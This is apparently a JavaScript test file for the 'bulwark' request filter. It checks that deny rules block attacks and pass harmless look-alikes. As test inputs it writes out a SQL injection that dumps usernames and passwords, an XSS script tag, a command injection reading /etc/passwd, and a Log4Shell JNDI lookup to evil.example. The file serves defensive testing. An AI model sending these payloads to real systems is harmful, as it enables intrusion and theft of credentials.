// Deny rules through `bulwark serve` (real sockets, the real host and filter, the demo
// backend): an attack in a query, a form body, a JSON body and a header gets the 400 block
// page and never reaches the backend; look-alikes reach it unchanged; the threat counter
// shows up in the admin metrics.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { startStack, request, parseProm } from "../serve/support/harness.js";
import { denyConfig } from "./support.js";

let stack;
before(async () => { stack = await startStack({ config: denyConfig() }); });
after(() => stack.close());

const url = (p) => `${stack.server.url}${p}`;
const eventsFor = (id) => stack.filterLogs.map((l) => l.message).filter((m) => m.includes("\"security_event\""))
  .map((m) => JSON.parse(m)).filter((e) => e.request_id === id);

test("attacks get the block page, with the event naming the rule and location", async () => {
  const cases = [
    [url(`/search?q=${encodeURIComponent("1' UNION SELECT username, password FROM users--")}`), {}, "query:q", "SQL"],
    [url("/comments"), { method: "POST", headers: { "content-type": "application/x-www-form-urlencoded" }, body: `c=${encodeURIComponent("<script>alert(1)</script>")}` }, "post:c", "XSS"],
    [url("/api/notes"), { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ note: { text: "a; cat /etc/passwd" } }) }, "$.note.text", "UNIXCMD"],
    [url("/"), { headers: { "x-forwarded-host": "${jndi:ldap://evil.example/a}" } }, "header:x-forwarded-host", "EXPLOIT"],
  ];
  for (const [u, opts, location, key] of cases) {
    const r = await request(u, { ...opts, headers: { accept: "application/json", ...opts.headers } });
    assert.equal(r.status, 400, location);
    assert.equal(r.json.error, "request blocked");
    const ev = eventsFor(r.json.request_id);
    assert.equal(ev.length, 1, location);
    assert.equal(ev[0].location, location);
    assert.equal(ev[0].rule_key, key);
    assert.doesNotMatch(r.body.toString(), /script|UNION|passwd|jndi/i, "no echo of the input");
  }
  const prom = parseProm((await request(`${stack.server.adminUrl}/metrics`)).body.toString());
  const name = Object.keys(prom).find((k) => k.includes("bulwark_threats_blocked_total") && k.includes("deny_rules") && k.includes("sql"));
  assert.ok(name, "a deny_rules/sql threat counter");
  assert.ok(prom[name] >= 1);
});

test("look-alikes reach the backend unchanged", async () => {
  const q = "O'Brien select a plan";
  let r = await request(url(`/people?name=${encodeURIComponent(q)}`));
  assert.equal(r.status, 200);
  assert.equal(r.json.query.name, q);
  const body = JSON.stringify({ comment: "Run `npm ci && npm test`, see https://example.com/docs?a=1&b=2", tags: ["cli"] });
  r = await request(url("/api/comments"), { method: "POST", headers: { "content-type": "application/json" }, body });
  assert.equal(r.status, 200);
  assert.equal(r.json.body.length, Buffer.byteLength(body));
  assert.equal(r.json.body.sha256, createHash("sha256").update(body).digest("hex"));
});
